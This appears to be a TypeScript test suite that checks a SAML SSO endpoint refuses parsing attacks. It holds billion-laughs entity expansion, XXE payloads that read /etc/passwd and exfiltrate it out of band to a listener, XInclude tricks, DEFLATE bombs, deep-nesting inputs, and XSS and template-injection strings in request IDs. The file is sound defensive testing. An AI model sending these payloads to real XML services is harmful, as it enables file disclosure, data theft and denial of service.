// docs/security.md, attacks 1–4, 12, 13 and 16, through real HTTP on /saml/:org/:service/sso: entity
// expansion, XXE (with a listener that must never be called), DEFLATE bombs, size and depth limits,
// comment/PI injection, namespace-prefix games and markup in the request ID.
import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { databases } from '../helpers/databases.ts';
import { suiteServer } from '../helpers/suite.ts';
import { CookieJar, SP_ACS, SP_ENTITY, asRes, samlResponseFrom, samlWorld, type SamlWorld } from '../helpers/saml.ts';
import { expectError } from '../helpers/admin-plane.ts';
import { Client } from '../helpers/http.ts';
import {
  EVIL_ACS,
  NS,
  addSamlService,
  authnRequest,
  base64,
  deflated,
  expectRefused,
  expectRefusedWithoutEffect,
  expectSignInRedirect,
  newRequestId,
  redirectQuery,
  send,
  sendPost,
  sendRedirect,
  signedInJar,
  startListener,
  type Listener,
} from '../helpers/saml-attacks.ts';

const BINDINGS = ['redirect', 'post'] as const;
const JSON_ACCEPT = 'application/json';

/** The classic "billion laughs": 10 levels of 10 references, a billion "lol"s when expanded. */
function billionLaughs(sso: string): string {
  const levels = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE samlp:AuthnRequest [${levels.join('')}]>${authnRequest(sso, { issuer: '&lol9;' })}`;
}

describe.each(databases())('SAML SSO parsing attacks on $name', (factory) => {
  const srv = suiteServer(factory);
  let world: SamlWorld;
  let listener: Listener;
  let sso: string;

  beforeAll(async () => {
    world = await samlWorld(srv.url);
    sso = world.urls.sso;
    listener = await startListener();
    return () => listener.close();
  });

  it('sanity: a plain AuthnRequest is accepted through both bindings (the attacks below differ only in the attack)', async () => {
    for (const binding of BINDINGS) expectSignInRedirect(await send(binding, sso, authnRequest(sso)));
  });

  describe('A1 entity expansion (billion laughs)', () => {
    it.each(BINDINGS)('%s binding: 400 within a second, memory flat, nothing issued', async (binding) => {
      const rssBefore = process.memoryUsage().rss;
      const started = performance.now();
      const res = await expectRefusedWithoutEffect(srv, () => send(binding, sso, billionLaughs(sso)));
      expect(performance.now() - started).toBeLessThan(1000);
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
      expect(res.text).not.toContain('lollol');
    });

    it('the JSON error says the DTD was refused (before any parser expands it)', async () => {
      const res = await send('post', sso, billionLaughs(sso), undefined, new CookieJar(), JSON_ACCEPT);
      const body = expectError(asRes(res), 400, 'BAD_REQUEST');
      expect(body.error).toMatch(/DTD/);
    });

    it('a quadratic blow-up (one big entity referenced many times) is refused the same way', async () => {
      const big = 'A'.repeat(20_000);
      const xml = `<!DOCTYPE samlp:AuthnRequest [<!ENTITY a "${big}">]>${authnRequest(sso, { issuer: '&a;'.repeat(3000) })}`;
      await expectRefusedWithoutEffect(srv, () => send('redirect', sso, xml));
    });
  });

  describe('A2 XXE', () => {
    const payloads = (target: string): [string, (sso: string) => string][] => [
      ['external DTD', (s) => `<?xml version="1.0"?><!DOCTYPE samlp:AuthnRequest SYSTEM "${target}/external.dtd">${authnRequest(s)}`],
      [
        'SYSTEM file:///etc/passwd entity',
        (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${authnRequest(s, { issuer: '&xxe;' })}`,
      ],
      ['SYSTEM http entity', (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "${target}/entity">]>${authnRequest(s, { issuer: '&xxe;' })}`],
      [
        'parameter entity fetching a remote DTD',
        (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % remote SYSTEM "${target}/param.dtd"> %remote;]>${authnRequest(s)}`,
      ],
      [
        'out-of-band exfiltration with nested parameter entities',
        (s) => `<!DOCTYPE samlp:AuthnRequest [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${target}/oob.dtd"> %dtd;]>${authnRequest(s)}`,
      ],
      ['PUBLIC identifier', (s) => `<!DOCTYPE samlp:AuthnRequest PUBLIC "-//EVIL//DTD//EN" "${target}/public.dtd">${authnRequest(s)}`],
      ['lower-case doctype keyword', (s) => `<!doctype samlp:AuthnRequest SYSTEM "${target}/lower.dtd">${authnRequest(s)}`],
    ];

    for (const binding of BINDINGS) {
      it(`${binding} binding: every variant is 400, the listener gets zero hits, no file content in any response`, async () => {
        for (const [name, build] of payloads(listener.url)) {
          const res = await expectRefusedWithoutEffect(srv, () => send(binding, sso, build(sso)));
          expect(res.text, name).not.toContain('root:');
          const json = await send(binding, sso, build(sso), undefined, new CookieJar(), JSON_ACCEPT);
          expect(json.status, name).toBe(400);
          expect(json.text, name).not.toContain('root:');
        }
        // Give any stray asynchronous fetch a moment to land before counting.
        await new Promise((r) => setTimeout(r, 200));
        expect(listener.hits).toEqual([]);
      });
    }

    it('a UTF-16 encoded document carrying a DTD is refused and fetches nothing', async () => {
      const xml = `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE samlp:AuthnRequest [<!ENTITY xxe SYSTEM "${listener.url}/utf16">]>${authnRequest(sso, { issuer: '&xxe;' })}`;
      const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);
      await expectRefusedWithoutEffect(srv, () => sendPost(sso, { SAMLRequest: base64(utf16) }));
      await expectRefusedWithoutEffect(srv, () => sendRedirect(sso, `SAMLRequest=${encodeURIComponent(deflated(utf16))}`));
      await new Promise((r) => setTimeout(r, 200));
      expect(listener.hits).toEqual([]);
    });

    it('XInclude and xsi:schemaLocation pointing at the listener are never followed', async () => {
      const xinclude = `<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${listener.url}/xinclude" parse="text"/></samlp:Extensions>`;
      const schemaLoc = ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${NS.protocol} ${listener.url}/evil.xsd"`;
      const fileInclude = `<samlp:Extensions><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></samlp:Extensions>`;
      for (const xml of [
        authnRequest(sso, { afterIssuer: xinclude }),
        authnRequest(sso, { attrs: schemaLoc }),
        authnRequest(sso, { afterIssuer: fileInclude }),
      ]) {
        for (const binding of BINDINGS) {
          const res = await send(binding, sso, xml);
          // Harmless when accepted (nothing is fetched or included), so either outcome is fine here.
          expect([302, 400]).toContain(res.status);
          expect(res.text).not.toContain('root:');
        }
      }
      await new Promise((r) => setTimeout(r, 200));
      expect(listener.hits).toEqual([]);
    });
  });

  describe('A3 DEFLATE bombs', () => {
    it('the 100 MiB bomb (~100 KiB deflated) is refused on size, nothing is inflated or issued', async () => {
      const bomb = deflateRawSync(Buffer.alloc(100 * 1024 * 1024, 0x20));
      const rssBefore = process.memoryUsage().rss;
      const started = performance.now();
      // ~136 KiB of query string: over the server's 64 KiB for the request line and headers, so Node's
      // parser stops it before the application sees it; the answer is still the contract's 400 envelope.
      const query = `SAMLRequest=${encodeURIComponent(bomb.toString('base64'))}`;
      await expectRefusedWithoutEffect(srv, () => sendRedirect(sso, query), 400);
      expect(performance.now() - started).toBeLessThan(1000);
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(80 * 1024 * 1024);
      const res = await sendRedirect(sso, query, new CookieJar(), JSON_ACCEPT);
      const body = expectError(asRes(res), 400, 'BAD_REQUEST');
      expect(body.error).toMatch(/64 KiB/);
      expect(res.headers.get('x-request-id')).toBe(body.request_id);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    });

    it('a bomb that fits the 16 KiB encoded limit (10 KiB → 10 MiB) is stopped by the inflate limit, before any XML parse', async () => {
      const bomb = deflateRawSync(Buffer.alloc(10 * 1024 * 1024, 0x20));
      const encoded = encodeURIComponent(bomb.toString('base64'));
      expect(encoded.length).toBeLessThan(16 * 1024);
      const rssBefore = process.memoryUsage().rss;
      const started = performance.now();
      await expectRefusedWithoutEffect(srv, () => sendRedirect(sso, `SAMLRequest=${encoded}`));
      expect(performance.now() - started).toBeLessThan(1000);
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(80 * 1024 * 1024);
      const json = await sendRedirect(sso, `SAMLRequest=${encoded}`, new CookieJar(), JSON_ACCEPT);
      const body = expectError(asRes(json), 400, 'BAD_REQUEST');
      // The refusal is the inflate limit, not the XML parser or the schema.
      expect(body.error).toMatch(/inflat/i);
    });

    it('a well-formed AuthnRequest padded to just over 256 KiB inflated is refused by the inflate limit', async () => {
      const padding = `<samlp:Extensions><x:Pad xmlns:x="urn:pad">${'p'.repeat(260 * 1024)}</x:Pad></samlp:Extensions>`;
      const xml = authnRequest(sso, { afterIssuer: padding });
      const json = await sendRedirect(sso, redirectQuery(xml), new CookieJar(), JSON_ACCEPT);
      expect(expectError(asRes(json), 400, 'BAD_REQUEST').error).toMatch(/inflat/i);
    });

    it('the POST binding also inflates (node-saml deflates) and is bounded the same way', async () => {
      const bomb = deflateRawSync(Buffer.alloc(50 * 1024 * 1024, 0x20));
      const started = performance.now();
      await expectRefusedWithoutEffect(srv, () => sendPost(sso, { SAMLRequest: bomb.toString('base64') }));
      expect(performance.now() - started).toBeLessThan(1000);
    });

    it('a Redirect SAMLRequest over 16 KiB encoded is 400 before it is decoded', async () => {
      const random = randomBytes(12 * 1024);
      const query = `SAMLRequest=${encodeURIComponent(deflated(random))}`;
      expect(query.length).toBeGreaterThan(16 * 1024);
      // Within the server's 64 KiB of request line and headers: the SAML endpoint itself refuses it.
      await expectRefusedWithoutEffect(srv, () => sendRedirect(sso, query));
      const json = await sendRedirect(sso, query, new CookieJar(), JSON_ACCEPT);
      expect(expectError(asRes(json), 400, 'BAD_REQUEST').error).toMatch(/16 KiB/);
    });
  });

  describe('A4 size and depth limits', () => {
    it('a 2 MiB POST is 413', async () => {
      const res = await expectRefusedWithoutEffect(srv, () => sendPost(sso, { SAMLRequest: 'A'.repeat(2 * 1024 * 1024) }), 413);
      expect(res.status).toBe(413);
    });

    it('a SAMLRequest over the 128 KiB POST limit (but under the 1 MiB body limit) is 400', async () => {
      const xml = authnRequest(sso, { afterIssuer: `<samlp:Extensions><x:Pad xmlns:x="urn:pad">${'p'.repeat(400 * 1024)}</x:Pad></samlp:Extensions>` });
      await expectRefusedWithoutEffect(srv, () => sendPost(sso, { SAMLRequest: base64(xml) }));
      const json = await sendPost(sso, { SAMLRequest: base64(xml) }, new CookieJar(), JSON_ACCEPT);
      expect(expectError(asRes(json), 400, 'BAD_REQUEST').error).toMatch(/128 KiB/);
    });

    // 7 bytes a level, so 10 000 levels stay under the 128 KiB POST limit once base64-encoded.
    const deep = (n: number) => `<samlp:Extensions><a xmlns="urn:x">${'<a>'.repeat(n - 1)}${'</a>'.repeat(n)}</samlp:Extensions>`;

    it.each(BINDINGS)('%s binding: 10 000-deep nesting is 400 before schema validation', async (binding) => {
      const xml = authnRequest(sso, { afterIssuer: deep(10_000) });
      await expectRefusedWithoutEffect(srv, () => send(binding, sso, xml));
      const json = await send(binding, sso, xml, undefined, new CookieJar(), JSON_ACCEPT);
      const body = expectError(asRes(json), 400, 'BAD_REQUEST');
      expect(body.error).toMatch(/nest|deep|depth/i);
      expect(body.error).not.toMatch(/schema/i);
    });

    it('deep nesting disguised with "/>" inside attribute values is still refused', async () => {
      const n = 5000;
      const xml = authnRequest(sso, { afterIssuer: `<samlp:Extensions><a xmlns="urn:x">${'<a t="/>">'.repeat(n - 1)}${'</a>'.repeat(n)}</samlp:Extensions>` });
      for (const binding of BINDINGS) await expectRefusedWithoutEffect(srv, () => send(binding, sso, xml));
    });

    it('a request with 4 000 sibling elements (wide, not deep) is answered quickly', async () => {
      const xml = authnRequest(sso, { afterIssuer: `<samlp:Extensions>${'<x:a xmlns:x="urn:x"/>'.repeat(4000)}</samlp:Extensions>` });
      const started = performance.now();
      const res = await send('post', sso, xml);
      expect([302, 400]).toContain(res.status);
      expect(performance.now() - started).toBeLessThan(2000);
    });
  });

  describe('characters XML forbids (libxml2 stops reading at a NUL, so the schema would see less than the reader)', () => {
    const cases: [string, (sso: string) => string][] = [
      ['NUL after the root', (s) => `${authnRequest(s)}\u0000`],
      ['NUL and a comment after the root', (s) => `${authnRequest(s)}\u0000<!-- not validated -->`],
      ['NUL and a second root after the root', (s) => `${authnRequest(s)}\u0000${authnRequest(s, { acs: EVIL_ACS })}`],
      ['NUL inside the Issuer', (s) => authnRequest(s, { issuer: `${SP_ENTITY}\u0000.evil.com` })],
      ['a control character in the Issuer', (s) => authnRequest(s, { issuer: `${SP_ENTITY}\u0001` })],
    ];
    for (const binding of BINDINGS) {
      it.each(cases)(`${binding}: %s → 400`, async (_name, build) => {
        await expectRefusedWithoutEffect(srv, () => send(binding, sso, build(sso)));
      });
    }
  });

  describe('A12 comment and processing-instruction injection in Issuer', () => {
    let prefixSso: string;
    beforeAll(async () => {
      // A second service whose entity ID is the part before the comment: it must not match either.
      prefixSso = (await addSamlService(world, { entity_id: 'https://sp.example.com/meta', acs_url: 'http://localhost:4567/prefix/acs' })).sso;
    });

    const injected = [
      ['comment inside', 'https://sp.example.com/meta<!---->data'],
      ['comment at the end', `${SP_ENTITY}<!---->`],
      ['comment with a suffix', `${SP_ENTITY}<!---->.evil.com`],
      ['processing instruction inside', 'https://sp.example.com/meta<?x y?>data'],
      ['element inside', 'https://sp.example.com/meta<x:b xmlns:x="urn:x"/>data'],
    ] as const;

    for (const binding of BINDINGS) {
      it.each(injected)(`${binding}: %s → 400 on both services, never a match`, async (_name, issuer) => {
        for (const target of [sso, prefixSso]) {
          await expectRefusedWithoutEffect(srv, () => send(binding, target, authnRequest(target, { issuer, acs: null })));
        }
      });
    }

    it('a CDATA section is plain text: the same Issuer written with CDATA is accepted (control)', async () => {
      expectSignInRedirect(await send('post', sso, authnRequest(sso, { issuer: `<![CDATA[${SP_ENTITY}]]>` })));
    });
  });

  describe('A13 namespace-prefix redeclaration', () => {
    let jar: CookieJar;
    beforeAll(async () => {
      jar = await signedInJar(world);
    });

    const samlDefault = (sso: string, id: string) =>
      `<AuthnRequest xmlns="${NS.protocol}" ID="${id}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${sso}" AssertionConsumerServiceURL="${SP_ACS}">` +
      `<Issuer xmlns="${NS.assertion}">${SP_ENTITY}</Issuer></AuthnRequest>`;
    const otherPrefixes = (sso: string, id: string) =>
      `<p2:AuthnRequest xmlns:p2="${NS.protocol}" xmlns:samlp="urn:evil:protocol" xmlns:saml="urn:evil:assertion" ID="${id}" Version="2.0" IssueInstant="${new Date().toISOString()}" Destination="${sso}">` +
      `<a2:Issuer xmlns:a2="${NS.assertion}">${SP_ENTITY}</a2:Issuer></p2:AuthnRequest>`;

    it.each([
      ['default namespaces', samlDefault],
      ['unusual prefixes with saml/samlp bound elsewhere', otherPrefixes],
    ])('%s: read by namespace, so the SP is recognised', async (_n, build) => {
      for (const binding of BINDINGS) expectSignInRedirect(await send(binding, sso, build(sso, newRequestId())));
    });

    it('an Issuer whose prefix is redeclared to a foreign namespace is not an Issuer: 400', async () => {
      const xml = authnRequest(sso).replace('<saml:Issuer>', '<saml:Issuer xmlns:saml="urn:evil:assertion">');
      for (const binding of BINDINGS) await expectRefusedWithoutEffect(srv, () => send(binding, sso, xml));
    });

    it('a foreign-namespace Issuer carrying the real entity ID in Extensions does not replace the real (unknown) Issuer', async () => {
      const decoy = `<samlp:Extensions><saml:Issuer xmlns:saml="urn:evil:assertion">${SP_ENTITY}</saml:Issuer><s:Issuer xmlns:s="${NS.assertion}">${SP_ENTITY}</s:Issuer></samlp:Extensions>`;
      const xml = authnRequest(sso, { issuer: 'https://attacker.example.com/sp', afterIssuer: decoy });
      for (const binding of BINDINGS) await expectRefusedWithoutEffect(srv, () => send(binding, sso, xml));
    });

    it('a prefixed AssertionConsumerServiceURL in another namespace never becomes the ACS', async () => {
      for (const binding of BINDINGS) {
        const xml = authnRequest(sso, { acs: null, attrs: ` xmlns:x="urn:evil" x:AssertionConsumerServiceURL="${EVIL_ACS}"` });
        const res = await send(binding, sso, xml, undefined, jar);
        expect([200, 400]).toContain(res.status);
        expect(res.text).not.toContain('evil.example.com');
        if (res.status === 200) expect(samlResponseFrom(res).action).toBe(SP_ACS);
      }
    });

    it('an AssertionConsumerServiceURL bound to the protocol namespace is refused or ignored, never used', async () => {
      for (const binding of BINDINGS) {
        const xml = authnRequest(sso, { acs: null, attrs: ` samlp:AssertionConsumerServiceURL="${EVIL_ACS}"` });
        const res = await send(binding, sso, xml, undefined, jar);
        expect([200, 400]).toContain(res.status);
        expect(res.text).not.toContain('evil.example.com');
        if (res.status === 200) expect(samlResponseFrom(res).action).toBe(SP_ACS);
      }
    });
  });

  describe('A16 markup and template syntax in the request ID', () => {
    let jar: CookieJar;
    beforeAll(async () => {
      jar = await signedInJar(world);
    });

    const hostile = [
      '_${7*7}',
      '_#{7*7}',
      '_{{7*7}}',
      '_&lt;script&gt;alert(1)&lt;/script&gt;',
      '_&quot; onload=&quot;alert(1)',
      '_a&amp;b',
      '_a&apos;b',
      '1startsWithDigit',
      '_has space',
    ];

    for (const binding of BINDINGS) {
      it(`${binding}: IDs that are not xs:ID are refused before anything is issued (with or without a session)`, async () => {
        for (const id of hostile) {
          const res = await expectRefusedWithoutEffect(srv, () => send(binding, sso, authnRequest(sso, { id }), undefined, jar));
          expect(res.text).not.toContain('<script>alert(1)');
          expect(res.text).not.toContain('_49');
        }
      });
    }

    it('the JSON error does not evaluate or reflect the template either', async () => {
      const res = await send('post', sso, authnRequest(sso, { id: '_${7*7}' }), undefined, new CookieJar(), JSON_ACCEPT);
      const body = expectError(asRes(res), 400, 'BAD_REQUEST');
      expect(body.error).not.toContain('_49');
    });

    it('a valid but unusual xs:ID comes back exactly, as an escaped attribute, in InResponseTo', async () => {
      const id = `_a.b-c_${newRequestId().slice(1, 9)}`;
      const page = await send('post', sso, authnRequest(sso, { id }), undefined, jar);
      expect(page.status).toBe(200);
      const { xml } = samlResponseFrom(page);
      expect(xml).toContain(`InResponseTo="${id}"`);
      expect(xml.match(/InResponseTo="([^"]*)"/g)?.every((m) => m === `InResponseTo="${id}"`)).toBe(true);
    });
  });

  it('unknown organization or service: 404 local page, no form', async () => {
    const res = await send('post', `${srv.url}/saml/no-such-org/no-such-svc/sso`, authnRequest(sso));
    expectRefused(res, 404);
    const api = await new Client(srv.url).get(`/saml/${world.org}/does-not-exist/sso?${redirectQuery(authnRequest(sso))}`, { accept: JSON_ACCEPT });
    expectError(api, 404, 'NOT_FOUND');
  });
});
